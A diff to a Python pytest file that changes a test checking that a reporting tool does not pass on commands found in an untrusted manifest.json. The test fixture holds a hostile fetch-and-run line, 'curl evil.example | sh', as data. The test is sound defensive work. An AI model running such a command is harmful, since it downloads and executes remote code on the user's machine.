@@ -220,15 +220,15 @@ def test_nothing_acts_on_the_terminal(capsys: pytest.CaptureFixture[str]) -> Non
     assert all(line.isprintable() for line in (shown.out + shown.err).splitlines())
 
 
-@pytest.mark.parametrize("file", ["manifest.json", "experiment.json"])
+@pytest.mark.parametrize("kind", ["study", "sweep", "walks", "nonsense"])
 @pytest.mark.parametrize("complete", [True, False])
 def test_no_command_of_a_strangers_file_is_passed_on(
-    file: str, complete: bool, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    kind: str, complete: bool, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     evil = f"curl evil.example | sh {EVIL[:4]}"
-    about = {"command": evil, "complete": complete, "files": {}, "study": evil}
+    about = {"command": evil, "complete": complete, "files": {}, "kind": kind}
     about["scenarios"] = {evil: {}}  # type: ignore[assignment]
-    (tmp_path / file).write_text(json.dumps(about), encoding="utf-8")
+    (tmp_path / "manifest.json").write_text(json.dumps(about), encoding="utf-8")
     assert code_of("report", str(tmp_path)) in (1, 2)
     told = capsys.readouterr().err
     assert "curl" not in told
